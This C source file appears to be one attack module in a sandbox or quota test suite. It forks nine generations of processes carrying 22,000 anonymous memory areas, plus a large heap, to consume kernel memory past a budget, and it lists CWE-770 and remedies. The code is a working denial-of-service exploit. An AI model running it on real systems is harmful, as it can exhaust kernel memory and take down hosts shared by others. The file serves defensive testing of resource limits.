// SPDX-License-Identifier: MIT
/*
 * linked-areas.c - areas that remember their ancestors.
 *
 * Goal:  more memory than the budget.
 * Means: an area that was written to has an anon_vma, and keeps it when its pages are given back; a
 *        copy of it, by fork(2), has one of its own and a link to that of each ancestor. In the
 *        tenth generation an area takes 900 bytes of the kernel's in place of 200, and none of them
 *        is in anybody's resident memory. Another child has a heap besides.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <sys/mman.h>
#include <unistd.h>

enum { AREAS = 22000, GENERATIONS = 9, STEP = 1000, HEAP_MIB = 236 };

static enum claim run(const struct brief *b)
{
	int grown[2];
	pid_t heap;
	char *range;

	if (pipe(grown))
		return failed("pipe");
	attempting(b);
	heap = fork();
	if (heap < 0)
		return denied("fork");
	if (heap == 0)
		_exit(take_heap(HEAP_MIB << 20) && !close(grown[1]) && sleep(9));
	range = mmap(NULL, AREAS * PAGE, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (range == MAP_FAILED)
		return denied("mmap");
	for (long i = 0; i < AREAS; i += 2)
		if (mprotect(range + i * PAGE, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
			return denied("mprotect");
	for (long i = 0; i < AREAS; i++) {
		range[i * PAGE] = 1;
		if (i % STEP == STEP - 1)
			madvise(range + (i - STEP + 1) * PAGE, STEP * PAGE, MADV_DONTNEED);
	}
	for (int i = 0; i < GENERATIONS; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child > 0 && !i) {
			await_growth(grown);
			return hold();
		}
		if (child > 0)
			_exit(!close(grown[1]) && sleep(9));
	}
	_exit(!close(grown[1]) && sleep(9));
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "22000 areas with an anon_vma each, in 9 generations that link to all before; a "
		 "heap",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "count an area as what it costs in its generation; deny fork; a memory cgroup",
	.refs = (const char *const[]){ "mprotect(2)", "madvise(2)", NULL },
	.run = run,
};
